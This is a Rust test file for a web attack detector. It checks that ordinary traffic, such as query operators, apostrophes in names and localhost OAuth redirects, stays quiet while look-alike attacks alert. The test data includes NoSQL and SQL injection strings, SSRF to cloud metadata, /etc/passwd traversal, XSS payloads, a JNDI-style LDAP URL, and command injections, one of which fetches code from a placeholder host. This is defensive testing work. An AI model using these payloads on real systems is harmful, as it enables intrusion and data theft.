//! What applications, languages and browsers send by themselves, beside the attacks that look like it.

use super::*;

/// The alerts of a query as it stands, and of the same as a form.
fn loud(query: &str) -> Vec<Hit> {
    let target = format!("/a?{query}");
    let get = Request { method: b"GET", target: target.as_bytes(), ..Request::default() };
    let post = Request {
        method: b"POST",
        target: b"/a",
        content_type: b"application/x-www-form-urlencoded",
        body: query.as_bytes(),
        ..Request::default()
    };
    [get, post].iter().flat_map(hits).filter(|hit| hit.score >= THRESHOLD).collect()
}

fn loud_document(body: &str) -> Vec<Hit> {
    let request = Request {
        method: b"POST",
        target: b"/api/a",
        content_type: b"application/json",
        body: body.as_bytes(),
        ..Request::default()
    };
    hits(&request).into_iter().filter(|hit| hit.score >= THRESHOLD).collect()
}

fn passes(queries: &[&str]) {
    for query in queries {
        assert!(loud(query).is_empty(), "{query}: {:?}", loud(query));
    }
}

fn alarms(kind: Kind, queries: &[&str]) {
    for query in queries {
        let told = loud(query).iter().filter(|hit| hit.kind == kind).count();
        assert_eq!(told, 2, "{query}: {:?}", loud(query));
    }
}

#[test]
fn operators_are_told_by_what_they_stand_for() {
    passes(&[
        "filters[stock][$lt]=40&sort=stock:desc",
        "filter[$and][0][city][$eq]=Lyon&filter[$and][1][open][$eq]=true",
        "created_at[$gte]=2025-03-01&created_at[$lt]=2025-04-01",
        "tags[$in][]=red&tags[$in][]=blue",
        "where={\"size\":{\"$gte\":12,\"$lt\":30}}",
        "_id[$gt]=65f0c1d2e3a4b5c6d7e8f901&$limit=20",
        "state__exact=3&p=2",
        "title__icontains=garden",
        "owner__group__name__iexact=sales",
        "published__lte=2025-01-01",
    ]);
    alarms(
        Kind::Nosql,
        &[
            "login[$ne]=a&pwd[$ne]=b",
            "name=bob&passphrase[$regex]=^k",
            "reset_token[$exists]=true",
            "f[$where]=this.a.length",
            "{\"$gt\":\"\"}",
            "q={\"mail\":{\"$ne\":null}}",
        ],
    );
    alarms(Kind::Sqli, &["owner__password__startswith=k", "email__regex=^a"]);
    for body in [
        r#"{"filter":{"height":{"$lte":190,"$gt":150}},"limit":5}"#,
        r#"{"query":{"$or":[{"kind":"a"},{"kind":"b"}]}}"#,
        r#"{"selector":{"_id":{"$in":["a1","b2"]}},"fields":["x"]}"#,
    ] {
        assert!(loud_document(body).is_empty(), "{body}: {:?}", loud_document(body));
    }
    for body in [
        r#"{"email":{"$gt":""},"pass":{"$gt":""}}"#,
        r#"{"a":{"$where":"sleep(9)"}}"#,
        r#"{"filter":{"secret":{"$regex":"^x"}}}"#,
    ] {
        assert!(loud_document(body).iter().any(|hit| hit.kind == Kind::Nosql), "{body}");
    }
}

#[test]
fn apostrophes_of_languages_close_nothing() {
    quiet(&[
        "la toison d'or",
        "feuille d'or 24",
        "l'union des peuples",
        "dell'union",
        "students' union",
        "bain d'or et d'argent",
        "10' or 12'",
        "4\" and 6\" hoses",
        "7' = 84\"",
    ]);
    fires(
        Kind::Sqli,
        &[
            "d' or 2=2",
            "d'or'b'='b",
            "ned'or 8=8--",
            "d'union select 4,5",
            "students' union select 1 from a",
            "10' or '12'='12",
            "4\" or \"6\"=\"6",
        ],
    );
}

#[test]
fn the_machine_itself_is_where_a_browser_may_go() {
    passes(&[
        "client_id=a&redirect_uri=http://127.0.0.1:49800/done&scope=b",
        "redirect_uri=http%3A%2F%2Flocalhost%3A5173%2Fauth%2Fcallback",
        "post_logout_redirect_uri=https://localhost:7001/",
        "returnUrl=http://[::1]:9000/",
    ]);
    alarms(
        Kind::Ssrf,
        &[
            "url=http://127.0.0.1:49800/done",
            "img=http://localhost:5173/a.png",
            "redirect_uri=http://127.0.0.1:6379/",
            "next=http://localhost:8080/actuator/env",
            "redirect_uri=http://169.254.169.254/latest/",
            "return_to=gopher://127.0.0.1:49800/_x",
        ],
    );
    let document = loud_document(r#"{"redirect_uris":["http://localhost:3456/cb"]}"#);
    assert!(document.is_empty(), "{document:?}");
}

#[test]
fn words_behind_separators_are_no_commands() {
    quiet(&[
        "&reg; Brand",
        "&copy; 1999 Someone",
        "garden | id",
        "Bar; sleep 1",
        "shelf; cat 7 bed",
        "&find it",
        "&time",
        "$HOME",
        "${title}",
        "${ORDER_ID}",
        "TypeError: a\n at <anonymous>:3:9",
    ]);
    fires(
        Kind::Command,
        &[
            "10.1.1.1 | id",
            "x; sleep 9",
            "&id",
            "&& time sh -c a",
            "a;cat /etc/issue",
            "& powershell iwr http://h.example/a",
            "|sc query",
            "&type nul > c:\\a.txt",
            "=cmd|' /C ver'!B2",
            "${cmd}",
        ],
    );
}

#[test]
fn queries_of_an_interface_are_its_own() {
    passes(&[
        "where=1%3D1&outFields=*&f=geojson",
        "q=SELECT%20Id,%20Email%20FROM%20Lead%20WHERE%20City%20=%20'Oslo'",
        "nrql=SELECT%20average(duration)%20FROM%20PageView%20SINCE%203%20hours%20ago",
        "filter={\"where\":{\"city\":\"Oslo\"},\"skip\":5}",
        "org.apache.struts.taglib.html.TOKEN=0a1b2c3d",
    ]);
    alarms(
        Kind::Sqli,
        &[
            "id=1%3D1",
            "where=1%3D1%20union%20select%201,2",
            "q=SELECT%20Id%20FROM%20Lead%20UNION%20SELECT%201%20FROM%20a",
            "where=1%20or%201%3D1",
        ],
    );
}

#[test]
fn what_pages_embed_is_shown_and_not_run() {
    quiet(&[
        "<iframe width=\"400\" height=\"300\" src=\"https://player.example/v/1\" allowfullscreen></iframe>",
        "<svg xmlns=\"http://www.w3.org/2000/svg\" viewBox=\"0 0 8 8\"><path d=\"M1 1h6\"/></svg>",
        "<!-- wp:paragraph --><h2 class=\"a\">Title</h2><!-- /wp:paragraph -->",
        "@import url(\"https://fonts.example/css?family=A\");",
        "../../static/img/logo.svg",
        "jdbc:mysql://localhost:3306/shop",
        "ldap://dir.example.org/ou=people,dc=example",
    ]);
    fires(
        Kind::Xss,
        &[
            "<iframe width=\"1\" height=\"1\" src=\"https://h.example/\" allowfullscreen onload=a()></iframe>",
            "<svg xmlns=\"http://www.w3.org/2000/svg\"><a href=\"javascript:a()\"/></svg>",
            "@import url(javascript:a());",
            "<iframe src=\"https://h.example/\"></iframe>",
        ],
    );
    fires(Kind::Traversal, &["../../../etc/passwd%00.png", "../../../../boot.ini"]);
    fires(Kind::Ssrf, &["ldap://h.example:1389/Exploit", "http://localhost:3306/"]);
    let report = r#"{"csp-report":{"violated-directive":"script-src","script-sample":"eval(a)"}}"#;
    assert!(loud_document(report).is_empty(), "{:?}", loud_document(report));
}

#[test]
fn sentences_with_one_technical_word_stay_quiet() {
    quiet(&[
        "xp_cmdshell was turned off, who did it",
        "subprocess.call or os.popen",
        "child_process.fork vs cluster",
        "waitfor delay or a loop",
        "order by case when empty first",
        "when should one use <iframe> today",
        "javascript: what is hoisting",
        "main/src/etc/passwd_reader.py",
    ]);
    fires(
        Kind::Sqli,
        &[
            "1; exec xp_cmdshell 'a'",
            "1;waitfor delay '0:0:3'",
            "(case when 1=1 then 1 else 2 end)",
        ],
    );
}
